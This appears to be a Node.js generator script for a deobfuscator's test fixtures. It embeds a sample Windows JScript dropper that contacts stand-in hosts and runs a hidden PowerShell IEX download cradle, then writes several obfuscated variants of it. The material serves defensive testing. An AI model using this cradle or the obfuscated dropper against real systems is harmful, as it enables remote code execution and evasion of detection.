// Generates the obfuscated JavaScript fixtures the deobfuscator tests read. Run with
// `npm install && node generate.js`; the outputs are committed so `make test` needs no network.
'use strict';
const fs = require('fs');
const path = require('path');
const JavaScriptObfuscator = require('javascript-obfuscator');

const source = `
function stage() {
  var url = "http://payload.athena-test.xyz/stage2.bin";
  var fallback = "https://cdn.evil-updates.com/gate.php?id=42";
  var shell = new ActiveXObject("WScript.Shell");
  var http = new ActiveXObject("MSXML2.XMLHTTP");
  http.open("GET", url, false);
  http.send();
  shell.Run("powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('" + fallback + "')", 0);
  return "C:\\\\Users\\\\Public\\\\stage2.exe";
}
stage();
`;

const common = {
  compact: true,
  seed: 1337,
  identifierNamesGenerator: 'hexadecimal',
  stringArray: true,
  stringArrayThreshold: 1,
  stringArrayRotate: true,
  stringArrayShuffle: true,
  splitStrings: false,
};

const variants = {
  'string-array.js': { ...common, stringArrayEncoding: [] },
  'string-array-base64.js': { ...common, stringArrayEncoding: ['base64'] },
  'string-array-rc4.js': { ...common, stringArrayEncoding: ['rc4'] },
  'string-array-base64-unicode.js': { ...common, stringArrayEncoding: ['base64'], unicodeEscapeSequence: true },
  'rc4-split-strings.js': { ...common, stringArrayEncoding: ['rc4'], splitStrings: true, splitStringsChunkLength: 8 },
};

fs.writeFileSync(path.join(__dirname, 'source.js'), source);
for (const [name, options] of Object.entries(variants)) {
  const out = JavaScriptObfuscator.obfuscate(source, options).getObfuscatedCode();
  fs.writeFileSync(path.join(__dirname, name), out + '\n');
  console.log(name, out.length);
}
